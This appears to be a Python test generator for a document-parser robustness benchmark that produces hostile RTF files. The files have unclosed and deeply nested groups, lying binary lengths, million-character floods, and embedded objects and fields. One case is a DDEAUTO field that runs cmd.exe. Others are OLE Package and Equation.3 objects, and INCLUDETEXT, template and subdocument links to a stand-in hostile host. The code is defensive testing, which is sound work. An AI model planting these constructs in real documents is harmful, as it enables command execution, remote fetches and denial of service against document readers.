"""RTF files that are hostile: groups without end, binary stretches that lie, floods of characters, objects and links."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.hostile.case import TEXT, Case, kind

_SAYS = "".join(f"\\u{ord(c)}?" if ord(c) > 127 else c for c in TEXT) + "\\par "


def _rtf(body: str, end: str = "}") -> bytes:
    return f"{{\\rtf1\\ansi\\ansicpg936 {_SAYS}{body}{end}".encode("latin-1")


@kind("rtf: groups without end")
def groups(dice: random.Random) -> Iterator[Case]:
    """A hundred thousand groups in each other, such that never close, and more ends than beginnings."""
    yield Case("deep.rtf", _rtf("{" * 100_000 + "}" * 100_000))
    yield Case("open.rtf", _rtf("{" * 100_000))
    yield Case("many.rtf", _rtf("{}" * 200_000), TEXT)
    yield Case("closed_too_often.rtf", _rtf("}" * 100_000), TEXT)
    yield Case("boxes.rtf", _rtf(r"{\shptxt " * 900 + "}" * 900), TEXT)
    yield Case("notes.rtf", _rtf(r"{\footnote " * 900 + "}" * 900), TEXT)
    yield Case("tables.rtf", _rtf(r"\intbl\itap99999 x\nestcell\nestrow" * 10_000), TEXT + "\nx" * 10_000)
    yield Case("rows.rtf", _rtf((r"\trowd" + r"\cellx1" * 5000 + r"\intbl\cell\row") * 100), TEXT)


@kind("rtf: binary stretches")
def binary(dice: random.Random) -> Iterator[Case]:
    """Stretches of bytes that claim gigabytes, less than nothing, or the rest of the file."""
    for name, length in (
        ("gigabytes", "2147483647"),
        ("below_zero", "-2147483648"),
        ("no_number", "99999999999999999999"),
    ):
        yield Case(f"{name}.rtf", _rtf(rf"{{\pict\bin{length} x}}"), TEXT if name == "below_zero" else None)
    yield Case("hides_the_end.rtf", _rtf(r"{\pict\bin1 }}"), TEXT)
    yield Case("picture.rtf", _rtf(r"{\pict\pngblip " + "89504e47" * 1_000_000 + "}"), TEXT)


@kind("rtf: floods")
def floods(dice: random.Random) -> Iterator[Case]:
    """Characters by number, words and paragraphs by the million, numbers that fit nothing."""
    yield Case("characters.rtf", _rtf("\\u20013?" * 300_000 + "\\par "), f"{TEXT}\n{'中' * 300_000}")
    halves = "\\u-10240?\\u55357?\\par "
    yield Case("surrogates.rtf", _rtf(halves), f"{TEXT}\n\ufffd\ufffd")
    skips = "\\uc30000\\u20013?" + "x" * 100_000 + "\\par "
    yield Case("skipped.rtf", _rtf(skips), f"{TEXT}\n中{'x' * 70_001}")
    yield Case("words.rtf", _rtf("\\b1" * 2_000_000))
    yield Case("paragraphs.rtf", _rtf("x\\par " * 300_000))
    yield Case("long_word.rtf", _rtf("\\" + "a" * 1_000_000 + " "), f"{TEXT}\n{'a' * 999_968}")
    yield Case("numbers.rtf", _rtf("\\fs" + "9" * 100_000 + "\\b-" + "9" * 100_000 + " "), TEXT)
    fonts = "".join(f"{{\\f{n}\\fcharset{n % 256} x;}}" for n in range(50_000))
    yield Case("fonts.rtf", _rtf("{\\fonttbl" + fonts + "}"), TEXT)
    yield Case("backslashes.rtf", _rtf("\\" * 1_000_000), f"{TEXT}\n" + "\\" * 500_000)


@kind("rtf: objects and links")
def objects(dice: random.Random) -> Iterator[Case]:
    """Programs, links and templates that a page asks for: not opened, and no part of the text."""
    host = "http://hostile.invalid/x"
    for name, body in (
        ("object", r"{\object\objemb{\*\objclass Package}{\*\objdata " + "0105" * 5000 + "}{\\result }}"),
        ("link", r"{\object\objautlink\objupdate{\*\objclass htmlfile}{\*\objdata 0105}}"),
        ("equation", r"{\object\objocx{\*\objclass Equation.3}{\*\objdata " + "41" * 100_000 + "}}"),
        ("include", rf'{{\field{{\*\fldinst INCLUDETEXT "{host}"}}{{\fldrslt }}}}'),
        ("picture", rf'{{\field{{\*\fldinst INCLUDEPICTURE "{host}" \\d}}{{\fldrslt }}}}'),
        ("dde", r'{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}{\fldrslt }}'),
        ("template", rf"{{\*\template {host}}}"),
        ("sub_document", rf"{{\*\subdocument1 {host}}}"),
    ):
        yield Case(f"{name}.rtf", _rtf(body), TEXT)
